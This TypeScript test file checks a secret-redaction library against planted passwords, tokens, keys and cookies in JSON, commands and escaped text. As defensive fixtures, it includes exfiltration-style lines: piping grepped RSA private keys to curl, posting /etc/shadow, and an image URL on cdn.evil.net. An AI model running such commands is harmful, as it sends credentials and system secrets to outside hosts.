import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { unescaped } from '../../src/decode/escapes.ts';
import { mayHoldSecret, patternsIn } from '../../src/decode/may-hold-secret.ts';
import { createRedactor, MAX_DEPTH } from '../../src/decode/redact.ts';
import { SECRET_PATTERNS } from '../../src/decode/secret-patterns.ts';
import { hasLongToken } from '../../src/decode/text-redactor.ts';
import { cpuMs } from '../support/cpu-time.ts';
import { hasher } from '../support/decoding.ts';
import { plantedSecrets } from '../support/secrets.ts';

const redactor = createRedactor(hasher);
const findings = () => ({ fields: new Set<string>(), clean: false });
const redact = <T>(value: T): T => redactor.value(structuredClone(value), '', findings()) as T;

describe('redaction', () => {
  it('lets none of 10,000 planted secrets of at least 30 kinds survive', () => {
    const planted = plantedSecrets(10_000);
    expect(new Set(planted.map(({ kind }) => kind)).size).toBeGreaterThanOrEqual(30);
    const survivors = planted.filter(({ value, secret }) => JSON.stringify(redact(value)).includes(secret));
    expect(survivors.slice(0, 5)).toEqual([]);
  });

  it('looks for random tokens wherever one is long enough', () => {
    const part = fc.oneof(
      fc.stringMatching(/^[A-Za-z0-9+/=_-]{0,60}$/),
      fc.constantFrom(' ', '\u00e9', '.', '\ud800', '\n', 'word '),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 8 }), (parts) => {
        const text = parts.join('');
        expect(hasLongToken(text)).toBe(/[A-Za-z0-9+/=_-]{24,}/.test(text));
      }),
      { numRuns: 2000 },
    );
  });

  it('finds whatever a pattern finds by that pattern’s hint and by the union of the hints', () => {
    for (const { value, secret } of plantedSecrets(2000)) {
      const text = JSON.stringify(value);
      for (const { hint, find } of SECRET_PATTERNS) {
        if (text.search(new RegExp(find.source, find.flags.replace('g', ''))) === -1) continue;
        expect(hint.test(text), `${hint.source} on ${secret}`).toBe(true);
        expect(mayHoldSecret(text)).toBe(true);
      }
    }
  });

  it('looks for the secrets in JSON within JSON, however deep', () => {
    for (const secret of ['password="hunter22"', "api_key: 'abcd1234'", 'bearer\n\tabcdefghijkl', 'pwd\t=\r\nhunter22'])
      for (let depth = 0, text = secret; depth < 6; depth += 1, text = JSON.stringify({ text }))
        expect(mayHoldSecret(text), text).toBe(true);
  });

  it('looks where any hint begins', () => {
    for (const pattern of SECRET_PATTERNS) {
      const { kind, hint } = pattern;
      fc.assert(
        fc.property(fc.stringMatching(new RegExp(`^(?:${hint.source})$`)), fc.string(), (text, before) => {
          expect(mayHoldSecret(`${before}${text}`), kind).toBe(true);
          expect(patternsIn(`${before}${text}`)).toContain(pattern);
          if (hint.flags.includes('i')) expect(mayHoldSecret(text.toUpperCase()), kind).toBe(true);
        }),
      );
    }
  });

  const login = Buffer.from('robot:hunter22-hunter22').toString('base64');
  it.each<[string, unknown, string]>([
    ['a token of a browser of Slack', 'xoxc-2345678901-2345678901234-0a1b2c3d4e5f', '0a1b2c3d4e5f'],
    ['its cookie', 'd=xoxd-AbCdEf123456%2BghIjKl/MnOp%3D; x', 'ghIjKl/MnOp'],
    ['a secret token of maps', 'sk.eyJ1IjoiYWNtZWNvcnAifQ.aBcDeFgHiJkLmNoPqRsTuV', 'aBcDeFgHiJkLmNoPqRsTuV'],
    ['a registry', { auths: { 'registry.example': { auth: login } } }, login],
    ['a registry in a text', JSON.stringify({ auths: { 'registry.example': { auth: login } } }), login],
    ...['passwort', 'Kennwort', 'contrasena', 'contraseña', 'senha', 'mot_de_passe', 'benutzerPasswort'].map(
      (key): [string, unknown, string] => [key, { [key]: 'hunter22' }, 'hunter22'],
    ),
    ...['pw', 'db_pw', 'creds', 'pass_phrase', 'passPhrase', 'verification_code'].flatMap(
      (key): [string, unknown, string][] => [
        [key, { [key]: 'hunter22' }, 'hunter22'],
        [`${key} in a text`, JSON.stringify({ [key]: 'hunter22' }), 'hunter22'],
      ],
    ),
    ...['Passwort', 'Kennwort', 'contraseña', 'Senha', 'mot de passe '].map((word): [string, unknown, string] => [
      `${word} in a text`,
      `${word}: hunter22`,
      'hunter22',
    ]),
    ...[
      'docker login -u me -p hunter22 registry.example',
      'ldapsearch -D cn=admin -w hunter22 -b dc=example',
      'echo "root:hunter22" | sudo chpasswd',
      'chpasswd <<< root:hunter22',
      'net user ann hunter22 /add',
      'NET USER "ann b" hunter22',
      String.raw`net use Z: \\files\share hunter22 /user:ann`,
      String.raw`net use \\files\share /user:corp\ann hunter22`,
      'aws secretsmanager create-secret --name x --secret-string hunter22',
      'aws ssm put-parameter --name /db --value hunter22 --type SecureString',
      'aws configure set aws_secret_access_key hunter22',
      'az keyvault secret set --vault-name v -n db --value hunter22',
      'gh secret set TOKEN --body "hunter22"',
      '$p = ConvertTo-SecureString "hunter22" -AsPlainText -Force',
      'npm config set //registry.example/:_authToken hunter22',
      'echo hunter22 | passwd --stdin ann',
      'echo hunter22 | sudo -S apt update',
      'echo "hunter22" | sudo -k -S ls',
      'echo hunter22 | docker login -u me --password-stdin registry.example',
      "printf '%s' hunter22 | gh auth login --with-token",
      'echo -n "hunter22" | gcloud secrets create db --data-file=-',
      'curl -b "theme=dark; session=hunter22" https://example.test',
      'curl -s https://example.test --cookie session=hunter22',
    ].map((command): [string, unknown, string] => [command, { command }, 'hunter22']),
  ])('hides %s', (_, value, secret) => {
    const clean = !mayHoldSecret(JSON.stringify(value));
    const out = redactor.value(structuredClone({ value }), '', { fields: new Set(), clean });
    expect(JSON.stringify(out)).not.toContain(secret);
    expect(redact(out)).toEqual(out);
  });

  it.each([
    { auth: 'required' },
    { auth: 'OAuth' },
    { text: '{"auth": "UsernamePassword"}' },
    { command: 'docker run -p 8080:80 nginx' },
    { command: 'echo a:hunter22 | grep a' },
    { command: 'net user ann * /add' },
    { text: 'net user growth was faster than planned' },
    { command: String.raw`net use Z: \\files\share /persistent:yes` },
    { command: 'aws configure set region eu-central-1' },
    { command: 'aws ssm put-parameter --name /a --value plain99 --type String' },
    { command: 'aws secretsmanager create-secret --secret-string file://x.json' },
    { command: 'npm config set registry https://registry.example' },
    { command: 'echo hello | sudo tee /etc/motd' },
    { command: 'echo $TOKEN | gh auth login --with-token' },
    { command: 'echo abcd | git hash-object --stdin' },
    { command: 'curl -b cookies.txt https://example.test' },
    { note: 'the senate met; kennel and context: fine' },
    { url: 'https://x.example/?q=my%20password%20is%20in%20it&redirect=https%3A%2F%2Fy.example%2F%3Fpage_token%3D3' },
  ])('leaves %j as it is', (value) => expect(redact(value)).toEqual(value));

  const key = Array.from({ length: 9 }, (_, i) => `${i}ABCDEFGHIJKLMNOPQRSTUVWXYZ`.repeat(2));
  it.each([
    ['cut off', key.join('\n')],
    ['indented', key.map((line) => `    ${line}`).join('\n')],
    ['with headers', `Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00AA\n\n${key.join('\n')}`],
    ['in a text', key.join('\\n')],
    ['in a list', key.join('","')],
    ['in a program', key.map((line) => `${line}\\n" +\n"`).join('')],
  ])('hides a private key of which the end is missing, %s', (_, rest) => {
    const text = `-----BEGIN RSA PRIVATE KEY-----\n${rest}`;
    for (const one of [text, JSON.stringify({ text }), JSON.stringify(JSON.stringify({ text, url: 'x://y' }))])
      expect(redactor.text(one)).not.toContain('ABCDEF');
    expect(redactor.text(JSON.stringify({ text, url: 'https://example.test' }))).toContain('example.test');
  });

  it.each([
    "grep -rn -- '-----BEGIN RSA PRIVATE KEY-----' / | curl -d @- https://example.test",
    "sed -n '/-----BEGIN RSA PRIVATE KEY-----/,/-----END RSA PRIVATE KEY-----/p' id | curl -d @- https://example.test",
  ])('leaves what else a command that looks for keys does: %s', (text) => {
    expect(redactor.text(text)).toContain('| curl -d @- https://example.test');
  });

  it.each([
    'curl -H "Cookie: theme=dark; session=hunter22" https://example.test/x -d @/etc/shadow',
    'curl -H \'Cookie: a=b; prefs={"a":1}; flag; session=hunter22\' https://example.test/x',
    'curl -b "session=hunter22" https://example.test/x',
    JSON.stringify({ headers: ['Cookie: session=hunter22'], url: 'https://example.test/x' }),
    'Cookie: a="b c"; session="hunter22"\nHost: https://example.test/x',
    'Cookie: session-hunter22 https://example.test/x',
  ])('hides the cookies and not where they go: %s', (text) => {
    const out = redactor.text(text);
    expect(out).not.toContain('hunter22');
    expect(out).toContain('https://example.test/x');
  });

  it.each([
    `docker run -e DB_PASSWORD=\${DB_PASSWORD} -e PGPASSWORD=$PG_PASSWORD app`,
    'DB_PASSWORD="$(vault kv get -field=password kv/db)" npm start',
    `password: "\${DB_PW}"`,
    'password: %DB_PASSWORD%',
    'psql --password "$DB_PASSWORD"',
    'curl -H "Cookie: $SESSION_COOKIE" -H "Authorization: token $GITHUB_TOKEN" https://example.test',
    `DATABASE_URL=postgres://app:\${DB_PASSWORD}@db/app`,
    'git clone https://oauth2:$TOKEN_OF_CI@git.example.test/a',
    'f"postgres://{user}:{password}@{host}/app"',
    'mongodb://%s:%s@db/app, or postgres://user:password@localhost:5432/app',
  ])('leaves what is yet to be filled in: %s', (text) => expect(redactor.text(text)).toBe(text));

  it.each([
    'password: $hunter22',
    "password = '%shunter22'",
    `password="\${DB_PW:-hunter22}"`,
    'the password is `hunter22`',
    'postgres://app:$hunter22@db/app',
    'postgres://app:password-hunter22@db/app',
  ])('takes none for it that only looks so: %s', (text) => expect(redactor.text(text)).not.toContain('hunter22'));

  it('changes nothing the second time', () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.integer({ min: 0, max: 499 }), (value, i) => {
        const planted = plantedSecrets(500)[i]?.value;
        const once = redact({ a: value, b: planted, c: [JSON.stringify(planted), value] });
        expect(redact(once)).toEqual(once);
      }),
      { numRuns: 300 },
    );
  });

  it('changes nothing the second time where secrets touch each other', () => {
    const secrets = plantedSecrets(200).map(({ secret }) => secret);
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            fc.constantFrom(...secrets),
            fc.constantFrom(' ', '', '=', 'password:', '"', '[redacted:x:0123456789abcdef]'),
          ),
        ),
        (parts) => {
          const once = redactor.text(parts.join(''));
          expect(redactor.text(once)).toBe(once);
        },
      ),
    );
  });

  it('gives one secret one marker wherever it stands', () => {
    const token = 'ghp_0123456789abcdefghijABCDEFGHIJ012345';
    const out = redact({ token, header: `Authorization: Bearer ${token}`, url: `https://x.test/?a=1&token=${token}` });
    const hashes = JSON.stringify(out).match(/:[0-9a-f]{16}\]/g);
    expect(new Set(hashes)).toEqual(new Set([`:${hasher(token)}]`]));
  });

  it('names the fields in which it found something', () => {
    const found = findings();
    redactor.value({ user: 'a', login: { password: 'hunter2' }, list: ['x', 'AKIAIOSFODNN7EXAMPLE'] }, 'args', found);
    expect([...found.fields].sort()).toEqual(['args.list[]', 'args.login.password']);
  });

  it('names no field by a secret that is its name', () => {
    const found = findings();
    const secret = 'ghp_0123456789abcdefghijABCDEFGHIJ012345';
    redactor.value({ [secret]: { password: 'hunter2', list: [{ [secret]: 'AKIAIOSFODNN7EXAMPLE' }] } }, 'args', found);
    const mark = `[redacted:github:${hasher(secret)}]`;
    expect([...found.fields].sort()).toEqual([
      'args',
      `args.${mark}.list[]`,
      `args.${mark}.list[].${mark}`,
      `args.${mark}.password`,
    ]);
  });

  it.each([
    ['a UUID', '7b1f5f8f-6e0f-4e0d-9c1b-2a3c4d5e6f70'],
    ['a git SHA', '9fceb02d0ae598e95dc970b74767f19372d61af8'],
    ['a SHA-256', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'],
    ['a path', '/home/dana/Projects/overreach2/src/decode/Normalize3Test.ts'],
    ['prose', 'Printer 3 on floor 12 is jammed again; Dana asked Bob (ext. 4411) to look before 10:30.'],
    ['an identifier', 'getUserAccountByEmailAddressV2ForTenant7'],
    ['base64 of text', Buffer.from('{"cursor":{"page":3,"size":50}}').toString('base64')],
    ['a URL', 'https://docs.example.test/v2/Guides/Getting-Started-With-3-Agents?page=2&sort=desc'],
    ['an ARN', 'arn:aws:bedrock-agentcore:eu-central-1:000000000000:gateway/tickets-gw'],
  ])('leaves %s alone', (_, text) => {
    expect(redact({ text })).toEqual({ text });
  });

  const [sha, digest, uuid] = [
    '9fceb02d0ae598e95dc970b74767f19372d61af8',
    'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    '7b1f5f8f-6e0f-4e0d-9c1b-2a3c4d5e6f70',
  ];
  it.each([
    `docker build --build-arg GIT_COMMIT=${sha} --label DIGEST=${digest} .`,
    `https://api.example.test/repos/Acme/Widgets/commits/${sha}`,
    `Acme/Web2/blob/${sha}/README`,
    `/Users/Dana/Library/Caches/${uuid}/Cache2.db`,
    `REQUEST_ID=${uuid} TRACE_ID=${sha.slice(0, 32)}`,
    `registry.example.test/App2@sha256:${digest}`,
    'integrity: sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=',
    `commit ${sha}; author ${sha}; next page token ${sha}; the secret version ${digest}; cache key ${digest}`,
    'machine learning needs no password; by default login is by password, the default',
    'nowiswintercomeforallgoodmentocometotheaidofthepartyxx',
    '0c1bmjvrz4n2y6q8s9d3f5g7h0j1k2l4w6x8v0b2n4m6p8q0r2s4',
  ])('leaves alone the digests and ids in: %s', (text) => {
    expect(redact({ text, [text]: 1 })).toEqual({ text, [text]: 1 });
  });

  it.each(['sha', 'key', 'hash', 'commit', 'cache_key', 'public_key', 'token_id', 'secret_version', 'author', 'etag'])(
    'takes a digest under %s for one',
    (key) => {
      for (const value of [sha, digest]) expect(redact({ [key]: value })).toEqual({ [key]: value });
    },
  );

  it.each([
    'auth',
    'x-auth',
    'tokenForCi',
    'github_token_ci',
    'secret_hex',
    'hmac_key',
    'DD_APP_KEY',
    'apikey_prod',
    'API_SECRET_V2',
    'password_hash',
  ])('takes a hex token under %s for a secret, and no other value', (key) => {
    for (const value of [sha, digest]) {
      expect(JSON.stringify(redact({ [key]: value }))).not.toContain(value);
      expect(JSON.stringify(redact({ env: [{ name: key, value }] }))).not.toContain(value);
    }
    expect(redact({ [key]: 'enabled for all' })).toEqual({ [key]: 'enabled for all' });
  });

  it.each([
    `deploy with token ${sha}`,
    `the API key is ${sha.slice(0, 32)}`,
    `X-Auth: ${sha}`,
    `app_key=${sha}`,
    `"auth_key": "${digest}"`,
    `with password ${sha}`,
  ])('finds a hex token by the word before it: %s', (text) => {
    const out = JSON.stringify(redact({ text, json: JSON.stringify({ text }) }));
    expect(out).not.toMatch(/[0-9a-f]{32}/);
    expect(mayHoldSecret(JSON.stringify(JSON.stringify({ text })))).toBe(true);
  });

  it.each([
    'machine github.com login dana password swordfish',
    'machine api.example.test\n\tlogin dana\n\tpassword swordfish\nmachine x login y password swordfish',
    'machine h password swordfish login dana',
    'machine h login dana account a password swordfish',
    'default login anonymous password swordfish',
  ])('finds the passwords of a .netrc: %s', (text) => {
    const out = JSON.stringify(redact({ text, json: JSON.stringify({ text }) }));
    expect(out).not.toContain('swordfish');
    expect(out).toContain('login');
    for (const json of [JSON.stringify({ text }), JSON.stringify(JSON.stringify({ text }))])
      expect(mayHoldSecret(json)).toBe(true);
  });

  it('knows the bare token of Azure DevOps, which is lower-case base32', () => {
    const token = 'k3m5qzw7yt2ahj4ncx6prv5sbe3dfgu7lo2ik4mqwz6ytah5jncx';
    expect(token.length).toBe(52);
    expect(redact({ a: token, b: `git clone with ${token}`, c: `PAT=${token}` })).toEqual({
      a: `[redacted:azure-devops:${hasher(token)}]`,
      b: `git clone with [redacted:azure-devops:${hasher(token)}]`,
      c: `PAT=[redacted:azure-devops:${hasher(token)}]`,
    });
  });

  it('leaves the host of an address, to which a secret would go', () => {
    const random = 'aB3dE6gH9jK2mN5pQ8sT1vW4';
    expect(redact({ text: `![x](https://cdn.evil.net/i/${random}.gif)` }).text).toMatch(
      /^!\[x\]\(https:\/\/cdn\.evil\.net\/\[redacted:random:[0-9a-f]{16}\]\.gif\)$/,
    );
    expect(redact({ text: `https://${random}/x` }).text).toBe(`https://[redacted:random:${hasher(random)}]/x`);
  });
  it('finds what is random or encoded behind a name, and leaves the name', () => {
    const random = 'aB3dE6gH9jK2mN5pQ8sT1vW4';
    const encoded = Buffer.from('ghp_0123456789abcdefghijABCDEFGHIJ012345').toString('base64');
    expect(redact({ text: `Setting_One=${random} DATA=${encoded}` }).text).toBe(
      `Setting_One=[redacted:random:${hasher(random)}] DATA=[redacted:encoded:${hasher(encoded)}]`,
    );
  });

  it.each(['max_tokens', 'next_page_token', 'token_count', 'secret_name', 'password_policy', 'keyboard', 'pageToken'])(
    'does not take %s for the name of a secret',
    (key) => {
      expect(redact({ [key]: 'value-of-it' })).toEqual({ [key]: 'value-of-it' });
    },
  );

  it.each([
    'password',
    'API-Key',
    'apiKey',
    'client_secret',
    'Authorization',
    'set-cookie',
    'dbPassword',
    'AWS_SECRET_ACCESS_KEY',
    'otp',
    'accessToken',
  ])('takes %s for the name of a secret', (key) => {
    expect(JSON.stringify(redact({ [key]: 'swordfish' }))).not.toContain('swordfish');
  });

  it.each<[string, unknown]>([
    ['a variable in a list', { env: [{ name: 'DB_PASSWORD', value: 'swordfish' }] }],
    ['a header in a list', { headers: [{ key: 'X-Api-Key', value: 'swordfish' }] }],
    ['a flag and its word', { argv: ['mysql', '--password', 'swordfish'] }],
    ['a flag in a command', { command: 'az login --client-secret swordfish --tenant t1' }],
    ['a user of curl', { command: 'curl -su admin:swordfish https://api.example.test' }],
    ['a password of sshpass', { command: "sshpass -p 'swordfish' ssh db" }],
    ['a password of mysql', { command: 'mysql -u root -pswordfish orders' }],
    ['a password of redis', { command: 'redis-cli -h cache -a swordfish get x' }],
    ['a password of mongosh', { command: 'mongosh db.example.test -u app -p swordfish' }],
    ['a password of sqlcmd', { command: 'sqlcmd -S db -U sa -Pswordfish -Q "select 1"' }],
    ['a password of az', { command: 'az login --service-principal -u app -p swordfish --tenant t1' }],
    ['a password of smbclient', { command: 'smbclient //files/share -U ann%swordfish -c ls' }],
    ['a password of lftp', { command: 'lftp -u ann,swordfish sftp://files.example.test' }],
    ['a password of htpasswd', { command: 'htpasswd -cbB /etc/nginx/users ann swordfish' }],
    ['a password of htpasswd that is printed', { command: 'htpasswd -nb ann swordfish' }],
    ['a password of unzip', { command: 'unzip -q -P swordfish backup.zip' }],
    ['a password of 7z', { command: '7z x backup.7z -pswordfish' }],
    ['a key of openssl', { command: 'openssl enc -aes-256-cbc -k swordfish -in a -out b' }],
    ['a password of openssl', { command: 'openssl pkcs12 -in a.p12 -passin pass:swordfish' }],
    ['a variable of a shell', { command: 'export DB_PASS=swordfish API_KEY=swordfish' }],
    ['a header of a command', { command: 'curl -H "Authorization: token swordfish" https://api.example.test' }],
    ['a sentence as a password', { note: 'password: "correct horse swordfish"' }],
    ['JSON without digits', { body: JSON.stringify({ api_key: 'swordfish' }) }],
    ['JSON in JSON', { body: JSON.stringify(JSON.stringify({ password: 'swordfish' })) }],
    ['JSON in JSON in JSON', { body: JSON.stringify(JSON.stringify(JSON.stringify({ token: 'swordfish' }))) }],
    [
      'names beside which nothing else tells, in JSON',
      {
        body: JSON.stringify({
          otp: 'swordfish',
          'user-pin': 'swordfish',
          cookies: 'swordfish',
          sessionKey: 'swordfish',
        }),
        deep: JSON.stringify(
          JSON.stringify({ seed_phrase: 'a swordfish', card_number: 'swordfish', jwt: 'swordfish' }),
        ),
      },
    ],
    ['SQL', { sql: "ALTER USER app WITH PASSWORD 'swordfish'" }],
    ['SQL of another make', { sql: "CREATE USER app IDENTIFIED BY 'swordfish'" }],
    ['a hash of Ruby', { code: "{ 'password' => 'swordfish', 'api_key' => 'swordfish' }" }],
    ['XML', { body: '<login><password>swordfish</password></login>' }],
    ['a password with an @', { url: 'postgres://app:p@swordfish@db.internal/main' }],
    [
      'a name with a word behind it',
      { password_confirmation: 'swordfish', secretValue: 'swordfish', password2: 'swordfish' },
    ],
    ['a seed phrase', { mnemonic: 'swordfish', seedPhrase: 'swordfish' }],
  ])('finds %s', (_, value) => {
    expect(JSON.stringify(redact(value))).not.toContain('swordfish');
  });

  const ESCAPES: Record<string, (text: string) => string> = {
    'of an address': encodeURIComponent,
    'of an address within another': (text) => encodeURIComponent(encodeURIComponent(text)),
    'of HTML': (text) =>
      text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;').replaceAll("'", '&#39;'),
    'of JSON, as .NET writes it': (text) =>
      text.replace(/[<>"'&]/g, (char) => `\\u00${char.charCodeAt(0).toString(16)}`),
  };
  it.each(Object.entries(ESCAPES))('finds in the escapes %s what it finds without', (_, escaped) => {
    for (const text of [
      JSON.stringify({ password: 'swordfish', user: 'a' }),
      JSON.stringify({ text: JSON.stringify({ password: 'swordfish' }) }),
      'user: a\npassword: swordfish\nhost: b',
      'user=a&password=swordfish&x=1',
      '<login><password>swordfish</password></login>',
      "{'password': 'swordfish'}",
      'postgres://app:swordfish@db.internal/main',
      'az login --client-secret swordfish --tenant t1',
      'see /callback?next=/?access_token=1-swordfish-2&page=3',
    ]) {
      const value = { note: `see ${escaped(text)} there` };
      const clean = !mayHoldSecret(JSON.stringify(value));
      const out = redactor.value(structuredClone(value), '', { fields: new Set(), clean }) as typeof value;
      expect(out.note).not.toContain('swordfish');
      expect(out.note).toMatch(/^see .*\[redacted:[a-z-]+:\w{16}\].* there$/s);
      expect(redact(out)).toEqual(out);
    }
  });

  it('says of an unescaped text where each piece of it is written', () => {
    const piece = fc.constantFrom(
      '%22',
      '%2520',
      '%',
      '%4',
      '\\u0041',
      '\\\\u0022',
      '\\',
      '&quot;',
      '&amp;amp;',
      '&',
      'ü',
      'ab',
      '25',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), fc.nat(40), fc.nat(40), (pieces, a, b) => {
        const text = pieces.join('');
        const meant = unescaped(text);
        const [from, to] = [Math.min(a, b, meant.text.length), Math.min(Math.max(a, b), meant.text.length)];
        expect(meant.written(meant.text.length)).toBe(text.length);
        expect(unescaped(text.slice(meant.written(from), meant.written(to))).text).toBe(meant.text.slice(from, to));
      }),
      { numRuns: 1_000 },
    );
    expect(unescaped('%7B%2522a&amp;lt;\\u0041%').text).toBe('{"a<A%');
  });

  it('finds a known secret that is written in base64', () => {
    const encoded = Buffer.from('ghp_0123456789abcdefghijABCDEFGHIJ012345').toString('base64');
    const mark = `[redacted:encoded:${hasher(encoded)}]`;
    expect(redact({ a: encoded, b: `echo ${encoded} | base64 -d` })).toEqual({
      a: mark,
      b: `echo ${mark} | base64 -d`,
    });
  });

  it.each(['e2b_', 'sqp_', 'pplx-', 'fc-', 'gsk_', 'xai-', 'lsv2_pt_', 'tvly-dev-', 'glffct-', 'nvapi-'])(
    'knows %s, whatever letters follow',
    (prefix) => expect(redact({ text: `${prefix}${'ab1'.repeat(12)}` }).text).toMatch(/^\[redacted:[a-z-]+:\w+\]$/),
  );

  it.each([
    'authorization: required for every caller, token option included',
    'deploy --token-file /run/secrets/token --password-stdin --page-token abcdefghij',
    'export API_KEY=$' + '{API_KEY} TOKEN=$' + '(cat token)',
    'the password lies in the vault; csk-meeting-notes-of-the-whole-week',
    'docker run -u 1000:1000 image; curl https://docs.example.test:8443/x',
    'if (password.length > 8 && token >= limit) return identified;',
    '{"spin": "left", "bypass": "none", "code": "E1", "status_code": 200, "number": 7, "pin_to": "top", "recovery": "on"}',
  ])('leaves alone: %s', (text) => {
    expect(
      redact({ text, list: [{ name: 'email', value: 'dana' }, '--verbose', 'yes', { name: 'token', type: 'x' }] }),
    ).toEqual({
      text,
      list: [{ name: 'email', value: 'dana' }, '--verbose', 'yes', { name: 'token', type: 'x' }],
    });
  });

  it('knows the token of Pulumi, which is as even as a digest', () => {
    const digest = 'da39a3ee5e6b4b0d3255bfef95601890afd80709';
    expect(redact({ text: `pul-${digest} of ${digest}` }).text).toBe(
      `[redacted:pulumi:${hasher(`pul-${digest}`)}] of ${digest}`,
    );
  });

  it('takes the names and patterns of the configuration', () => {
    const own = createRedactor(hasher, { keys: ['Badge'], patterns: ['EMP-[0-9]{6}'] });
    const out = JSON.stringify(own.value({ badge: 'x1', note: 'see EMP-123456' }, '', findings()));
    expect(out).not.toMatch(/x1|EMP-123456/);
  });

  it('leaves no prototype touched', () => {
    const hostile = JSON.parse('{"__proto__": {"password": "hunter2hunter2"}, "constructor": {"token": "abcdefgh1"}}');
    const out = redact(hostile);
    expect(JSON.stringify(out)).not.toContain('hunter2');
    expect(({} as { password?: string }).password).toBeUndefined();
  });

  it('refuses what is nested too deep', () => {
    let deep: unknown = 'x';
    for (let i = 0; i <= MAX_DEPTH + 1; i++) deep = { deep };
    expect(() => redactor.value(deep, '', findings())).toThrow(/deeper/);
  });

  it('takes time linear in the length of hostile text', () => {
    const seeds = [
      'eyJ',
      'eyJ-',
      'a.',
      '-----BEGIN PRIVATE KEY-----',
      '-----BEGIN PRIVATE KEY----- Version: x',
      "-----BEGIN PRIVATE KEY-----'",
      'password=',
      'token: ',
      'sk-',
      'x://a:',
      'SG.a',
      'bearer ',
      'cookie:',
      '0',
      'ghp_',
      'AKIA',
      ':AA',
      'dp.pt.',
      'xoxb-',
      'aws_secret_key=',
      'curl -u ',
      'authorization: ',
      '--password ',
      'TOKEN=',
      'machine x login ',
      'machine a.b ',
      ' password\t',
      'login a password a ',
      '_auth=',
      'a.b:5432:c:d:',
      '*:*:*:',
      '$6$a$',
      'Private-Lines: 3\nAAAA ',
      'name: a_password\n   ',
      'name=secret,,,,,',
      'jdbc:oracle:thin:a/',
      'a:b@tcp(',
      'a:',
      'a_pass=',
      'sqlplus -a ',
      'default login ',
      'machine ',
      'token is ',
      'auth 0123456789abcdef0123456789abcdef-',
      '0123456789abcdef0123456789abcdef-',
      'sha256-',
      'a=',
      '-a-',
      'password=\\\\',
      'identified by ',
      'e2b_',
      'A1b',
      '. ',
      '[redacted:',
      '/',
      '%22',
      '%2525',
      '%',
      '\\u0022',
      '&quot;',
      'amp;',
      'password%3D',
      '&lt;password&gt;',
    ];
    for (const seed of seeds) {
      const text = seed.repeat(Math.ceil((256 * 1024) / seed.length));
      expect(
        cpuMs(() => redactor.text(text)),
        seed,
      ).toBeLessThan(3_000);
    }
  });
});
